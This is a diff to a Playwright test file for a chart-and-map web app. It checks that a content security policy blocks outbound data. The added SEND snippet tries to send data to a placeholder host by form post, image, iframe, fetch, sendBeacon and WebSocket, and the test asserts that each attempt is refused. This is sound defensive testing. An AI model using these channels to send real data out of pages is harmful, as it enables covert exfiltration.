@@ -157,6 +157,26 @@ PAGES = {
     "experiments?experiment=beta": CHART,
 }
 """Every page of the app by its link, and what is there once it is."""
+HARMLESS = {
+    "Download plot as a PNG", "Download plot as a png", "Zoom", "Pan", "Zoom in", "Zoom out",
+    "Reset axes", "Fullscreen", "Close fullscreen",
+}  # fmt: skip
+"""What the toolbar of a chart may offer."""
+SEND = """() => {
+    const foreign = "https://elsewhere.invalid/", refused = [];
+    document.addEventListener("securitypolicyviolation", (e) => refused.push(e.effectiveDirective));
+    const form = document.createElement("form");
+    Object.assign(form, {method: "post", target: "_blank", action: foreign});
+    document.body.append(form);
+    form.submit();
+    new Image().src = foreign;
+    document.body.append(Object.assign(document.createElement("iframe"), {src: foreign}));
+    fetch(foreign, {method: "post", body: "data"}).catch(() => null);
+    navigator.sendBeacon(foreign, "data");
+    try { new WebSocket("wss://elsewhere.invalid/"); } catch { /* refused at once */ }
+    return new Promise((done) => setTimeout(() => done(refused), 500));
+}"""
+"""Every way to send something elsewhere; the ways that the browser refused."""
 NOTED = """
 import runpy, sys
 asked = open(sys.argv.pop(1), "a", buffering=1)
@@ -196,6 +216,13 @@ def visit_every_page(page, address, run):
         wait_for_layout(page)
         page.wait_for_load_state("networkidle")
         assert page.locator("[data-testid=stException]").count() == 0, link
+        buttons = page.locator(".modebar-btn").evaluate_all(
+            "(all) => all.map((b) => b.dataset.title)"
+        )
+        assert {title.split(" (")[0] for title in buttons} <= HARMLESS, link
+        clouds = """() => [...document.querySelectorAll(".js-plotly-plot")].map(({_context: c}) =>
+            [c.showSendToCloud, c.plotlyServerURL].join())"""
+        assert {*page.evaluate(clouds)} <= {"false,"}, link
 
 
 def test_no_page_and_no_server_asks_anything_of_another(chromium, tmp_path):
@@ -220,6 +247,22 @@ def test_no_page_and_no_server_asks_anything_of_another(chromium, tmp_path):
     assert any(url.startswith("ws") for url in requests) and len(requests) > 20
     assert "socket.bind\t('127.0.0.1'" in asked.read_text(), "it was written down"
     assert asked_of_others(asked) == []
+
+
+@pytest.mark.parametrize("is_file", [False, True], ids=["app", "exported file"])
+def test_the_browser_refuses_whatever_a_page_might_send(is_file, server, chromium, tmp_path):
+    path = tmp_path / "map.html"
+    if is_file:
+        path.write_bytes(export_page(DIGITS_FILE))
+    with closing(chromium.new_context()) as context:
+        page = context.new_page()
+        page.set_default_timeout(TIMEOUT)
+        page.goto(path.as_uri() if is_file else f"{server[0]}/?model=digits-2d-beta-1")
+        wait_for_points(page, 500)
+        refused = page.evaluate(SEND)
+    kinds = {kind.removesuffix("-elem") for kind in refused}
+    assert kinds == {"form-action", "img-src", "frame-src", "connect-src"}
+    assert refused.count("connect-src") == 3
 
 
 @pytest.mark.parametrize(
